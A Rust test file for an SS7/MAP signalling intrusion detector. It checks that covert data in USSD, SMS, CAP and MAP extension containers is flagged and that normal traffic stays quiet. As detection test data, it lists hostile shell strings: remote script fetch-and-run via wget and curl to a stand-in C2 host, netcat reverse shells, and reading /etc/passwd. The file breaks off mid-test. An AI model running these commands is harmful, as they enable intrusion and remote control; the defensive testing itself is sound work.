//! TCAP/MAP misuse as a carrier (2005-2008, 2001/2002 on prose in every script), in several
//! variants on real frames, and the legitimate look-alikes that stay quiet: SIM OTA from the
//! home SMSC, concatenated SMS, human text in UCS-2 Chinese, Tamil, Arabic, Thai, Cyrillic,
//! GSM 7-bit prose, service codes and menus.

mod support;

use sigscope_core::ber::Tag;
use sigscope_rules::{Engine, Policy};
use support::*;

const HOME_POLICY: &str = "[home]\nplmns=[\"23415\"]\ngt_prefixes=[\"4477009\"]\n";

fn ids(frames: &[Frame]) -> Vec<u32> {
    let mut e = Engine::new(Policy::from_toml(HOME_POLICY).unwrap());
    let mut v = Vec::new();
    decode(frames, &mut |m| {
        e.observe(m, &mut |a| {
            if !a.tagged {
                v.push(a.sig.id())
            }
        })
    });
    v.sort_unstable();
    v.dedup();
    v
}

fn ussd(ts: f64, calling: &str, text: &str) -> Frame {
    let otid = 0x3300_0000 | (ts * 10.0) as u32;
    Frame::at(
        ts,
        map_invoke(
            otid,
            calling,
            "447700900001",
            (ac::NETWORK_UNSTRUCTURED_SS, 2),
            op::PROCESS_USSD,
            &ussd_arg(text),
        ),
    )
}

/// A processUnstructuredSS-Request in a Begin (or, `continue_`, a Continue answering
/// transaction 0x55000001) of transaction `otid`, from `calling` to our HLR.
fn ussd_dialogue_frame(ts: f64, continue_: bool, otid: u32, calling: &str, text: &str) -> Frame {
    use sigscope_tcap::emit::{ComponentRepr, TcapRepr};
    let tcap = TcapRepr {
        msg_type: if continue_ {
            sigscope_tcap::MessageType::CONTINUE
        } else {
            sigscope_tcap::MessageType::BEGIN
        },
        otid: Some(otid),
        dtid: continue_.then_some(0x5500_0001),
        dialogue: None,
        components: vec![ComponentRepr::Invoke {
            invoke_id: 1,
            opcode: i64::from(op::PROCESS_USSD),
            parameter: ussd_arg(text),
        }],
        p_abort_cause: None,
    }
    .emit();
    Frame::at(
        ts,
        m3ua_frame(sccp_udt(
            gt_address("447700900001", 6),
            gt_address(calling, 8),
            tcap,
        )),
    )
}

/// USSD whose coding scheme says 8-bit data (0x44) or compressed text (0x20), carrying
/// random octets: judged as binary (2001), as no USSD service sends either; an 8-bit menu of
/// plain octets stays quiet.
#[test]
fn binary_ussd_is_judged_as_binary() {
    let arg = |dcs: u8, s: &[u8]| {
        tlv(
            Tag::SEQUENCE,
            &[
                &tlv(Tag::OCTET_STRING, &[&[dcs]]),
                &tlv(Tag::OCTET_STRING, &[s]),
            ],
        )
    };
    let frame = |dcs: u8, s: &[u8]| {
        Frame::at(
            1.0,
            map_invoke(
                0x3400_0001,
                "85290001234",
                "447700900001",
                (ac::NETWORK_UNSTRUCTURED_SS, 2),
                op::PROCESS_USSD,
                &arg(dcs, s),
            ),
        )
    };
    for (k, dcs) in [0x44u8, 0x20, 0x94].into_iter().enumerate() {
        let got = ids(&[frame(dcs, &noise(80 + k as u32, 100))]);
        assert!(got.contains(&2001), "dcs {dcs:#04x}: {got:?}");
    }
    let got = ids(&[frame(0x44, b"1 Balance 2 Bundles 3 Roaming 0 Back")]);
    assert!(!got.contains(&2001), "{got:?}");
}

/// Encoded data cut into USSD strings each too short to judge (8 characters of base32 or
/// base64 per round) over one USSD dialogue: found once the pieces joined read as encoded
/// (2001), and the dialogue reported; a menu dialogue of choices and short words is not.
#[test]
fn encoded_data_cut_over_a_ussd_dialogue() {
    let ussd_frame = |ts: f64, continue_: bool, text: &str| {
        ussd_dialogue_frame(ts, continue_, 0x4400_0001, "85290001234", text)
    };
    let b32 = "NFSDW5LOMFWWKIBNMEZWGYLUEAXWK5DDF5YGC43TO5SAUIDGN5XXEIDFMF2GQIDQMFZXG53P";
    let b64 = "aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dkOyBscyAtbGEgL3RtcDsgd2hvYW1pOyBleGl0";
    for data in [b32, b64] {
        let frames: Vec<Frame> = data
            .as_bytes()
            .chunks(8)
            .enumerate()
            .map(|(i, c)| ussd_frame(1.0 + i as f64, i > 0, std::str::from_utf8(c).unwrap()))
            .collect();
        let got = ids(&frames);
        assert!(got.contains(&2001), "{data}: {got:?}");
    }
    let menu = [
        "Balance", "Bundles", "Roaming", "Settings", "Language", "English", "Confirm", "Goodbye",
        "Thankyou",
    ];
    let frames: Vec<Frame> = menu
        .iter()
        .enumerate()
        .map(|(i, t)| ussd_frame(1.0 + i as f64, i > 0, t))
        .collect();
    assert!(!ids(&frames).contains(&2001));
}

/// mt-ForwardSM from `calling` carrying a TPDU with `pid`, `dcs`, optional UDH and `ud`.
fn mt_sms(ts: f64, calling: &str, pid: u8, dcs: u8, udh: Option<&[u8]>, ud: &[u8]) -> Frame {
    let mut tpdu = vec![if udh.is_some() { 0x44 } else { 0x04 }];
    tpdu.extend_from_slice(&[11, 0x91]);
    tpdu.extend(tbcd("85290001234"));
    tpdu.extend_from_slice(&[pid, dcs]);
    tpdu.extend_from_slice(&[0x52, 0x11, 0x52, 0x01, 0x00, 0x00, 0x00]);
    let mut body = Vec::new();
    if let Some(h) = udh {
        body.push(h.len() as u8);
        body.extend_from_slice(h);
    }
    body.extend_from_slice(ud);
    tpdu.push(body.len() as u8);
    tpdu.extend(body);
    let arg = tlv(
        Tag::SEQUENCE,
        &[
            &tlv(Tag::ctx(0), &[&tbcd("234150123456789")]),
            &tlv(Tag::ctx(4), &[&isdn(calling)]),
            &tlv(Tag::OCTET_STRING, &[&tpdu]),
        ],
    );
    let otid = 0x4400_0000 | (ts * 10.0) as u32;
    Frame::at(
        ts,
        map_invoke(
            otid,
            calling,
            "447700900555",
            (ac::SHORT_MSG_MT_RELAY, 3),
            op::MT_FORWARD_SM,
            &arg,
        ),
    )
}

fn ucs2(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(|u| u.to_be_bytes()).collect()
}

#[test]
fn text_that_reads_as_commands() {
    let commands = [
        "wget http://203.0.113.50/a.sh; chmod +x a.sh",
        "cat /etc/passwd",
        "id;uname -a && whoami",
        "bash -c 'nc -e /bin/sh 198.51.100.7 4444'",
        "echo $(hostname) > /tmp/x",
        "curl -s http://c2.example/p | sh",
        // no marker at all: commands one after another, and a command naming an address
        "uname -a; id; ls -la ~",
        "id;uname -a;ps aux",
        "nc 203.0.113.9 4444 -e sh",
    ];
    for (i, c) in commands.iter().enumerate() {
        let got = ids(&[ussd(1.0 + i as f64, "85290001234", c)]);
        assert!(got.contains(&2006), "USSD {c:?}: {got:?}");
        let got = ids(&[Frame::at(
            1.0,
            map_invoke(
                0x5000 + i as u32,
                "85290001234",
                "447700900555",
                (ac::SHORT_MSG_MT_RELAY, 3),
                op::MT_FORWARD_SM,
                &mt_forward_sm_arg("85290001234", c),
            ),
        )]);
        assert!(got.contains(&2006), "SMS {c:?}: {got:?}");
    }
}

#[test]
fn binary_payloads_in_short_messages() {
    // encrypted-looking 8-bit payloads from a foreign GT, with and without ports / OTA PID
    let variants = [
        (0x00, 0x04, None, noise(11, 120)),
        (0x00, 0xf6, None, noise(12, 80)),
        (0x7f, 0xf6, Some(&[0x70u8, 0x00][..]), noise(13, 100)),
        (
            0x00,
            0x04,
            Some(&[0x05u8, 0x04, 0x23, 0xf4, 0x00, 0x00][..]),
            noise(14, 64),
        ),
        // text marked compressed (TS 23.042, never deployed): 8-bit and GSM 7-bit alphabets
        (0x00, 0x24, None, noise(16, 130)),
        (0x00, 0x20, None, noise(17, 100)),
    ];
    for (i, (pid, dcs, udh, ud)) in variants.iter().enumerate() {
        let got = ids(&[mt_sms(1.0, "85290001234", *pid, *dcs, *udh, ud)]);
        assert!(got.contains(&2005), "variant {}: {got:?}", i + 1);
    }
    // SIM OTA to our subscriber from another operator of our country: not our SMSC
    let competitor = mt_sms(
        1.0,
        "447900123456",
        0x7f,
        0xf6,
        Some(&[0x70, 0x00]),
        &noise(18, 100),
    );
    assert!(ids(&[competitor]).contains(&2005));
    // SIM OTA (PID 7F, DCS F6, command packet) from the home SMSC: quiet
    let ota = mt_sms(
        1.0,
        "447700900777",
        0x7f,
        0xf6,
        Some(&[0x70, 0x00]),
        &noise(15, 100),
    );
    assert!(!ids(&[ota]).contains(&2005));
}

#[test]
fn prose_in_every_script_and_normal_services_stay_quiet() {
    let prose = [
        "您好，您的快递今天下午三点送达，请保持电话畅通。如有疑问请回复本短信或致电客服热线，谢谢您的耐心等待。",
        "வணக்கம், உங்கள் கணக்கில் ரூ.500 வரவு வைக்கப்பட்டுள்ளது. மேலும் விவரங்களுக்கு எங்கள் வாடிக்கையாளர் சேவையை அழைக்கவும்.",
        "مرحباً، تم شحن رصيدك بمبلغ ٥٠ ريال. شكراً لاستخدامك خدماتنا، نتمنى لك يوماً سعيداً مع عائلتك وأصدقائك.",
        "สวัสดีครับ ยอดเงินคงเหลือของคุณคือ 250 บาท ขอบคุณที่ใช้บริการของเรา กรุณาติดต่อศูนย์บริการลูกค้าหากมีข้อสงสัย",
        "Здравствуйте! Ваш баланс пополнен на 300 рублей. Спасибо, что пользуетесь нашими услугами, хорошего дня.",
        "Xin chào, tài khoản của bạn đã được nạp 50.000 đồng. Cảm ơn bạn đã sử dụng dịch vụ của chúng tôi hôm nay.",
    ];
    let mut frames = Vec::new();
    for (i, p) in prose.iter().enumerate() {
        let ts = 1.0 + i as f64;
        // UCS-2, whole and as a concatenated part
        let body = ucs2(p);
        let cut = body.len().min(134) & !1;
        frames.push(mt_sms(ts, "85290001234", 0, 0x08, None, &body[..cut]));
        frames.push(mt_sms(
            ts + 0.5,
            "85290001234",
            0,
            0x08,
            Some(&[0x00, 0x03, 0x2a, 0x02, 0x01]),
            &body[..cut.min(128)],
        ));
    }
    // GSM 7-bit prose, service codes and menus
    frames.push(ussd(20.0, "447700900123", "*100#"));
    frames.push(ussd(
        21.0,
        "447700900123",
        "1. Balance\n2. Top up\n3. Bundles\n4. Help",
    ));
    // prose that happens to start clauses with command words
    for (i, text) in [
        "cat is fine; ps see you at 5 - mum",
        "ping me when you land; cd player is in the car",
        "find the keys? id card is on the desk",
    ]
    .into_iter()
    .enumerate()
    {
        frames.push(ussd(23.0 + i as f64, "447700900123", text));
    }
    frames.push(Frame::at(
        22.0,
        map_invoke(
            0x6001,
            "85290001234",
            "447700900555",
            (ac::SHORT_MSG_MT_RELAY, 3),
            op::MT_FORWARD_SM,
            &mt_forward_sm_arg(
                "85290001234",
                "Your code is 483920. Do not share it. Visit www.example.com/help for more.",
            ),
        ),
    ));
    let got = ids(&frames);
    assert!(
        !got.iter()
            .any(|id| [2001, 2002, 2005, 2006, 2007, 2008].contains(id)),
        "{got:?}"
    );
}

/// A TCAP Begin from a Spanish gsmSSF to our gsmSCF under application context `acn` (OID
/// content octets) invoking operation 0 (CAP InitialDP) with `param`.
fn cap_begin(otid: u32, acn: &[u8], param: Vec<u8>) -> Frame {
    begin_op(otid, Some(acn), 0, param)
}

/// A TCAP Begin (with an AARQ naming `acn`, or no dialogue portion) invoking local
/// operation `opcode` with `param`.
fn begin_op(otid: u32, acn: Option<&[u8]>, opcode: u8, param: Vec<u8>) -> Frame {
    use sigscope_tcap::emit::{AcnRepr, ComponentRepr, DialogueRepr, TcapRepr};
    let tcap = TcapRepr {
        msg_type: sigscope_tcap::MessageType::BEGIN,
        otid: Some(otid),
        dtid: None,
        dialogue: acn.map(|a| DialogueRepr::Aarq(AcnRepr::Oid(a.to_vec()))),
        components: vec![ComponentRepr::Invoke {
            invoke_id: 1,
            opcode: opcode.into(),
            parameter: param,
        }],
        p_abort_cause: None,
    }
    .emit();
    let sccp = sccp_udt(
        gt_address("447700900040", 146),
        gt_address("346090000023", 146),
        tcap,
    );
    Frame::at(1.0 + f64::from(otid & 0xff), m3ua_frame(sccp))
}

/// An InitialDP-shaped argument: a SEQUENCE of short context-tagged values (service key,
/// numbers in BCD, category, IMSI, location, call reference, MSC address, time), here filled
/// with noise so that the whole parameter measures as encrypted, as real ones nearly do.
fn idp_like(seed: u32, long_leaf: Option<usize>) -> Vec<u8> {
    use sigscope_core::ber::Class;
    let ctx = |n: u32| Tag::new(Class::Context, false, n);
    let mut parts: Vec<Vec<u8>> = Vec::new();
    for (i, (n, len)) in [
        (0, 2),
        (2, 8),
        (3, 8),
        (5, 1),
        (8, 8),
        (50, 8),
        (55, 8),
        (56, 8),
        (57, 9),
        (58, 8),
    ]
    .into_iter()
    .enumerate()
    {
        parts.push(tlv(ctx(n), &[&noise(seed + i as u32, len)]));
    }
    let loc = Tag::new(Class::Context, true, 52);
    parts.push(tlv(
        loc,
        &[
            &tlv(ctx(0), &[&noise(seed + 99, 2)]),
            &tlv(ctx(3), &[&noise(seed + 98, 16)]),
        ],
    ));
    if let Some(n) = long_leaf {
        parts.push(tlv(ctx(61), &[&noise(seed + 97, n)]));
    }
    let refs: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
    tlv(Tag::new(Class::Universal, true, 16), &refs)
}

/// CAMEL operations across the border are structured values, not blobs: an InitialDP under
/// the CAP phase 2, 3 and 4 contexts stays quiet even when its short values measure as
/// random together; a long value carried inside one, or a CAP parameter that is no BER tree,
/// is an opaque operation (2008), as the same InitialDP is under a context nobody defines.
#[test]
fn cap_operations_are_judged_by_their_values() {
    const CAP_V2: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 50, 0x01];
    const CAP_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 21, 0x03, 0x04];
    const CAP_V4: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 22, 0x03, 0x04];
    // 1.3.6.1.4.1.99999.1: an enterprise OID, no signalling context
    const UNKNOWN: [u8; 9] = [0x2b, 0x06, 0x01, 0x04, 0x01, 0x86, 0x8d, 0x1f, 0x01];
    for (i, acn) in [&CAP_V2[..], &CAP_V3[..], &CAP_V4[..]]
        .into_iter()
        .enumerate()
    {
        let quiet = ids(&[cap_begin(
            0x100 + i as u32,
            acn,
            idp_like(10 * i as u32, None),
        )]);
        assert!(!quiet.contains(&2008), "context {i}: {quiet:?}");
        let blob = ids(&[cap_begin(
            0x200 + i as u32,
            acn,
            idp_like(10 * i as u32, Some(56)),
        )]);
        assert!(blob.contains(&2008), "context {i} with a blob: {blob:?}");
        // a SEQUENCE whose contents are not BER
        let mut not_ber = vec![0x30, 0x81, 110];
        not_ber.extend(noise(77 + i as u32, 110));
        let opaque = ids(&[cap_begin(0x300 + i as u32, acn, not_ber)]);
        assert!(opaque.contains(&2008), "context {i}, not BER: {opaque:?}");
    }
    let unknown = ids(&[cap_begin(0x400, &UNKNOWN, idp_like(3, None))]);
    assert!(unknown.contains(&2008), "{unknown:?}");
}

/// A blob in an operation MAP assigns no code to, under a MAP context (networkLocUp v3) or
/// with no dialogue portion at all (MAP v1), is an opaque operation (2008); so is a blob as
/// the whole parameter of an assigned operation (forwardCUG-Info, which no networkLocUp
/// dialogue carries, and updateLocation itself): no MAP argument is one long primitive. A
/// short primitive argument (sendIMSI's MSISDN) stays quiet.
#[test]
fn unassigned_map_operations_carrying_blobs() {
    const NETWORK_LOC_UP_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 0x01, 0x03];
    let mut blob = vec![0x04, 0x81, 180];
    blob.extend(noise(5, 180));
    for (i, (acn, op)) in [
        (Some(&NETWORK_LOC_UP_V3[..]), 99u8),
        (Some(&NETWORK_LOC_UP_V3[..]), 200),
        (None, 99),
        (None, 250),
        (Some(&NETWORK_LOC_UP_V3[..]), 120),
        (Some(&NETWORK_LOC_UP_V3[..]), 2),
    ]
    .into_iter()
    .enumerate()
    {
        let got = ids(&[begin_op(0x500 + i as u32, acn, op, blob.clone())]);
        assert!(got.contains(&2008), "variant {i} (op {op}): {got:?}");
    }
    let msisdn = tlv(Tag::OCTET_STRING, &[&isdn("447700900123")]);
    let quiet = ids(&[begin_op(0x5ff, None, 58, msisdn)]);
    assert!(!quiet.contains(&2008), "{quiet:?}");
}

/// Exfiltration through MAP extension containers, wherever the blob sits: a private
/// extension after a small vendor one, or the pcs-Extensions (2007); a container holding only
/// small vendor extensions stays quiet.
#[test]
fn blobs_anywhere_in_extension_containers() {
    use sigscope_core::ber::Class;
    const SHORT_MSG_GATEWAY_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 20, 0x03];
    let oid = |last: u8| {
        tlv(
            Tag::OID,
            &[&[0x2b, 0x06, 0x01, 0x04, 0x01, 0x81, 0xe5, 0x1c, last]],
        )
    };
    let private = |last: u8, value: &[u8]| tlv(Tag::SEQUENCE, &[&oid(last), value]);
    let small = private(1, &tlv(Tag::OCTET_STRING, &[&[0x01]]));
    let blob = tlv(Tag::OCTET_STRING, &[&noise(31, 120)]);
    let ctx = |n: u32, cons: bool| Tag::new(Class::Context, cons, n);
    let sri_sm = |container: Vec<u8>| {
        tlv(
            Tag::SEQUENCE,
            &[
                &tlv(ctx(0, false), &[&isdn("447700900123")]),
                &tlv(ctx(1, false), &[&[0xff]]),
                &tlv(ctx(2, false), &[&isdn("447700900777")]),
                &tlv(ctx(6, true), &[&container]),
            ],
        )
    };
    let second_private = tlv(ctx(0, true), &[&small, &private(2, &blob)]);
    let pcs = tlv(ctx(1, true), &[&tlv(ctx(0, false), &[&noise(32, 120)])]);
    for (i, container) in [second_private, pcs].into_iter().enumerate() {
        let got = ids(&[begin_op(
            0x600 + i as u32,
            Some(&SHORT_MSG_GATEWAY_V3),
            45,
            sri_sm(container),
        )]);
        assert!(got.contains(&2007), "variant {i}: {got:?}");
    }
    let quiet = tlv(
        ctx(0, true),
        &[&small, &private(3, &tlv(Tag::OCTET_STRING, &[b"v2"]))],
    );
    let got = ids(&[begin_op(
        0x700,
        Some(&SHORT_MSG_GATEWAY_V3),
        45,
        sri_sm(quiet),
    )]);
    assert!(!got.contains(&2007), "{got:?}");

    // a blob cut into private extensions each too short to judge alone (10 to 16 octets,
    // 3 to 6 pieces, under one or several vendors' OIDs; a UDT holds no more)
    for (k, (pieces, size)) in [(3usize, 16usize), (4, 16), (6, 10), (5, 12)]
        .into_iter()
        .enumerate()
    {
        let blob = noise(40 + k as u32, pieces * size);
        let list: Vec<Vec<u8>> = blob
            .chunks(size)
            .enumerate()
            .map(|(j, c)| private((j % 3) as u8 + 4, &tlv(Tag::OCTET_STRING, &[c])))
            .collect();
        let refs: Vec<&[u8]> = list.iter().map(Vec::as_slice).collect();
        let got = ids(&[begin_op(
            0x800 + k as u32,
            Some(&SHORT_MSG_GATEWAY_V3),
            45,
            sri_sm(tlv(ctx(0, true), &refs)),
        )]);
        assert!(got.contains(&2007), "{pieces} x {size}: {got:?}");
    }
    // one extension whose value is wrapped by its vendor ([PRIVATE 0] { [1] data }: hex text
    // or octets), or is a SEQUENCE of short OCTET STRINGs (a blob chunked at BER level)
    let hex: String = noise(60, 60).iter().map(|b| format!("{b:02x}")).collect();
    let wrapped = |inner: &[u8]| {
        tlv(
            Tag::new(Class::Private, true, 0),
            &[&tlv(Tag::new(Class::Context, false, 1), &[inner])],
        )
    };
    let chunks = noise(61, 112);
    let parts: Vec<Vec<u8>> = chunks
        .chunks(14)
        .map(|c| tlv(Tag::OCTET_STRING, &[c]))
        .collect();
    let refs: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
    for (k, value) in [
        wrapped(hex.as_bytes()),
        wrapped(&noise(62, 48)),
        tlv(Tag::SEQUENCE, &refs),
    ]
    .into_iter()
    .enumerate()
    {
        let got = ids(&[begin_op(
            0x880 + k as u32,
            Some(&SHORT_MSG_GATEWAY_V3),
            45,
            sri_sm(tlv(ctx(0, true), &[&private(9, &value)])),
        )]);
        assert!(got.contains(&2007), "shape {k}: {got:?}");
    }
    // many small vendor extensions of constant or counting data stay quiet
    let vendor: Vec<Vec<u8>> = (0..6u8)
        .map(|j| {
            private(
                j % 4 + 4,
                &tlv(Tag::OCTET_STRING, &[&[0x00, 0x01, j, 0x00]]),
            )
        })
        .collect();
    let refs: Vec<&[u8]> = vendor.iter().map(Vec::as_slice).collect();
    let got = ids(&[begin_op(
        0x900,
        Some(&SHORT_MSG_GATEWAY_V3),
        45,
        sri_sm(tlv(ctx(0, true), &refs)),
    )]);
    assert!(!got.contains(&2007), "{got:?}");
}

/// A sender's constant binary value (a vendor's key fingerprint, the same 40 octets in every
/// dialogue) is reported once, not in each dialogue; a value that changes from dialogue to
/// dialogue (data) is reported in each, and so is the constant from another sender.
#[test]
fn a_senders_constant_extension_value_is_reported_once() {
    use sigscope_core::ber::Class;
    const SHORT_MSG_GATEWAY_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 20, 0x03];
    let ctx = |n: u32, cons: bool| Tag::new(Class::Context, cons, n);
    let private = |value: &[u8]| {
        tlv(
            Tag::SEQUENCE,
            &[
                &tlv(
                    Tag::OID,
                    &[&[0x2b, 0x06, 0x01, 0x04, 0x01, 0x81, 0xe5, 0x1c, 7]],
                ),
                &tlv(Tag::OCTET_STRING, &[value]),
            ],
        )
    };
    let sri_sm = |value: &[u8]| {
        tlv(
            Tag::SEQUENCE,
            &[
                &tlv(ctx(0, false), &[&isdn("447700900123")]),
                &tlv(ctx(1, false), &[&[0xff]]),
                &tlv(ctx(2, false), &[&isdn("447700900777")]),
                &tlv(ctx(6, true), &[&tlv(ctx(0, true), &[&private(value)])]),
            ],
        )
    };
    let alerts = |frames: &[Frame]| {
        let mut e = Engine::new(Policy::from_toml(HOME_POLICY).unwrap());
        let mut n = 0;
        decode(frames, &mut |m| {
            e.observe(m, &mut |a| {
                n += usize::from(!a.tagged && a.sig.id() == 2007);
            })
        });
        n
    };
    let constant = noise(70, 40);
    let same: Vec<Frame> = (0..4u32)
        .map(|k| {
            begin_op(
                0xa00 + k,
                Some(&SHORT_MSG_GATEWAY_V3),
                45,
                sri_sm(&constant),
            )
        })
        .collect();
    assert_eq!(alerts(&same), 1);
    let varying: Vec<Frame> = (0..4u32)
        .map(|k| {
            begin_op(
                0xa10 + k,
                Some(&SHORT_MSG_GATEWAY_V3),
                45,
                sri_sm(&noise(71 + k, 40)),
            )
        })
        .collect();
    assert_eq!(alerts(&varying), 4);
    // the constant from another sender: reported again
    let mut two = same.clone();
    two.push(Frame::at(
        9.0,
        m3ua_frame(sccp_udt(
            gt_address("447700900040", 146),
            gt_address("346090000024", 146),
            sigscope_tcap::emit::TcapRepr {
                msg_type: sigscope_tcap::MessageType::BEGIN,
                otid: Some(0xa20),
                dtid: None,
                dialogue: Some(sigscope_tcap::emit::DialogueRepr::Aarq(
                    sigscope_tcap::emit::AcnRepr::Oid(SHORT_MSG_GATEWAY_V3.to_vec()),
                )),
                components: vec![sigscope_tcap::emit::ComponentRepr::Invoke {
                    invoke_id: 1,
                    opcode: 45u8.into(),
                    parameter: sri_sm(&constant),
                }],
                p_abort_cause: None,
            }
            .emit(),
        )),
    ));
    assert_eq!(alerts(&two), 2);
}

/// Frames (1-based, as `decode` numbers them) alerted or tagged, and the signatures found.
fn reported(frames: &[Frame]) -> (std::collections::BTreeSet<u64>, Vec<u32>) {
    let mut e = Engine::new(Policy::from_toml(HOME_POLICY).unwrap());
    let (mut got, mut sigs) = (std::collections::BTreeSet::new(), Vec::new());
    decode(frames, &mut |m| {
        e.observe(m, &mut |a| {
            got.insert(a.frame);
            if !a.tagged {
                sigs.push(a.sig.id());
            }
        })
    });
    sigs.sort_unstable();
    sigs.dedup();
    (got, sigs)
}

/// A dialogue of `n` messages between a foreign node and our HLR under
/// networkLocUpContext v3: the node's Begin and Continues each carry an updateLocation-shaped
/// argument whose one private extension holds `ext(i)`; our answers are Continues.
fn dialogue_with_pieces(otid: u32, n: usize, ext: &dyn Fn(usize) -> Vec<u8>) -> Vec<Frame> {
    use sigscope_core::ber::Class;
    use sigscope_tcap::emit::{AcnRepr, ComponentRepr, DialogueRepr, TcapRepr};
    const LOC_UP_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 1, 0x03];
    let ctx = |n: u32, cons: bool| Tag::new(Class::Context, cons, n);
    let oid = tlv(
        Tag::OID,
        &[&[0x2b, 0x06, 0x01, 0x04, 0x01, 0x81, 0xe5, 0x1c, 7]],
    );
    let (node, hlr) = ("491720000001", "447700900010");
    let mut frames = Vec::new();
    for i in 0..n {
        let container = tlv(
            Tag::SEQUENCE,
            &[&tlv(
                ctx(0, true),
                &[&tlv(
                    Tag::SEQUENCE,
                    &[&oid, &tlv(Tag::OCTET_STRING, &[&ext(i)])],
                )],
            )],
        );
        let arg = tlv(
            Tag::SEQUENCE,
            &[
                &tlv(Tag::OCTET_STRING, &[&tbcd("234150000000123")]),
                &tlv(ctx(1, false), &[&isdn(node)]),
                &tlv(Tag::OCTET_STRING, &[&isdn(node)]),
                &container,
            ],
        );
        let tcap = TcapRepr {
            msg_type: if i == 0 {
                sigscope_tcap::MessageType::BEGIN
            } else {
                sigscope_tcap::MessageType::CONTINUE
            },
            otid: Some(otid),
            dtid: (i > 0).then_some(0x5500 + otid),
            dialogue: (i == 0).then(|| DialogueRepr::Aarq(AcnRepr::Oid(LOC_UP_V3.to_vec()))),
            components: vec![ComponentRepr::Invoke {
                invoke_id: i as i8 as u8 as _,
                opcode: 2u8.into(),
                parameter: arg,
            }],
            p_abort_cause: None,
        }
        .emit();
        let ts = 10.0 + 2.0 * i as f64;
        frames.push(Frame::at(
            ts,
            m3ua_frame(sccp_udt(gt_address(hlr, 6), gt_address(node, 7), tcap)),
        ));
        // the HLR's Continue back
        let back = TcapRepr {
            msg_type: sigscope_tcap::MessageType::CONTINUE,
            otid: Some(0x5500 + otid),
            dtid: Some(otid),
            dialogue: None,
            components: vec![],
            p_abort_cause: None,
        }
        .emit();
        frames.push(Frame::at(
            ts + 0.05,
            m3ua_frame(sccp_udt(gt_address(node, 7), gt_address(hlr, 6), back)),
        ));
    }
    frames
}

/// Exfiltration cut into small private extension pieces over one dialogue's messages (each
/// piece 10 to 24 octets, too short to judge alone): 2007 once the pieces joined read as
/// encrypted, and the dialogue's messages reported with it; a token repeated in every
/// message, or vendor counters, stay quiet.
#[test]
fn a_blob_cut_over_a_dialogues_private_extensions() {
    for (k, size) in [10usize, 16, 24, 12].into_iter().enumerate() {
        let n = 64usize.div_ceil(size) + 1;
        let frames = dialogue_with_pieces(0x7100 + k as u32, n, &|i| {
            noise(70 + (k * 10 + i) as u32, size)
        });
        let (got, sigs) = reported(&frames);
        assert!(sigs.contains(&2007), "pieces of {size}: {sigs:?}");
        let missing: Vec<usize> = (1..=frames.len())
            .filter(|f| !got.contains(&(*f as u64)))
            .collect();
        assert!(
            missing.is_empty(),
            "pieces of {size}: frames not reported {missing:?}"
        );
    }
    let token = noise(99, 16);
    let quiet: [&dyn Fn(usize) -> Vec<u8>; 2] = [&|_| token.clone(), &|i| {
        vec![
            0x01, 0x00, 0x00, i as u8, 0x10, 0x20, 0x00, 0x00, 0x00, 0x01,
        ]
    }];
    for (k, ext) in quiet.into_iter().enumerate() {
        let (_, sigs) = reported(&dialogue_with_pieces(0x7200 + k as u32, 8, ext));
        assert!(!sigs.contains(&2007), "quiet {k}: {sigs:?}");
    }
}

/// `n` location updates from one foreign node, each its own dialogue 90 s after the last,
/// the `j`-th carrying `ext(j)` in its one private extension.
fn updates_with_pieces(n: usize, ext: &dyn Fn(usize) -> Vec<u8>) -> Vec<Frame> {
    let mut frames = Vec::new();
    for j in 0..n {
        for mut f in dialogue_with_pieces(0x7300 + j as u32, 1, &|_| ext(j)) {
            f.ts_nanos += j as u64 * 90_000_000_000;
            frames.push(f);
        }
    }
    frames
}

/// Exfiltration cut over many dialogues, one small piece in each update's private extension
/// (too short to judge alone, one per transaction): 2007 once six or more of a sender's
/// pieces, each another value almost whole, joined read as encrypted, with the updates that
/// carried them; a vendor's constant, a few constants in turn, its counter, and subscriber
/// numbers in each update stay quiet.
#[test]
fn a_blob_cut_over_a_senders_dialogues() {
    for (k, size) in [20usize, 12, 28, 7].into_iter().enumerate() {
        let n = 64usize.div_ceil(size).max(6) + 1;
        // (seeds spread over the word: a small xorshift seed starts with zero octets)
        let seed = |j: usize| 0x9e37_79b9u32.wrapping_mul((k * 20 + j + 1) as u32);
        let frames = updates_with_pieces(n, &|j| noise(seed(j), size));
        let (got, sigs) = reported(&frames);
        assert!(sigs.contains(&2007), "pieces of {size}: {sigs:?}");
        // every update that carried a piece (its Begin) is reported
        let begins: Vec<u64> = (0..n).map(|j| 1 + 2 * j as u64).collect();
        let missing: Vec<&u64> = begins.iter().filter(|f| !got.contains(f)).collect();
        assert!(
            missing.is_empty(),
            "pieces of {size}: updates not reported {missing:?}"
        );
    }
    // the same sender's own node name between the pieces is not reported with them (those
    // after the finding are: the foreign sender is then a named attacker)
    let mixed = updates_with_pieces(12, &|j| {
        if j % 2 == 1 {
            b"HLR-JKT3".to_vec()
        } else {
            noise(300 + j as u32, 20)
        }
    });
    let (got, sigs) = reported(&mixed);
    assert!(sigs.contains(&2007), "{sigs:?}");
    let named: Vec<u64> = (0..6)
        .filter(|j| j % 2 == 1)
        .map(|j| 1 + 2 * j as u64)
        .filter(|f| got.contains(f))
        .collect();
    assert!(named.is_empty(), "node names reported: {named:?}");
    let token = noise(199, 20);
    let tokens: Vec<Vec<u8>> = (0..4).map(|i| noise(400 + i, 24)).collect();
    let quiet: [&dyn Fn(usize) -> Vec<u8>; 4] = [
        &|_| token.clone(),
        // a vendor rotating four constants (one per operation or realm)
        &|j| tokens.get(j % 4).cloned().unwrap_or_default(),
        // a vendor TLV whose counter and clock move
        &|j| {
            vec![
                0x01,
                0x04,
                0x00,
                0x01,
                0x86,
                j as u8,
                0x02,
                0x04,
                0x65,
                0x70,
                0x1a,
                (j * 90) as u8,
                0xa0,
                0x05,
                0x11,
                0x22,
                0x33,
                0x44,
                0x55,
                0x66,
            ]
        },
        // a subscriber number (TBCD) in each update
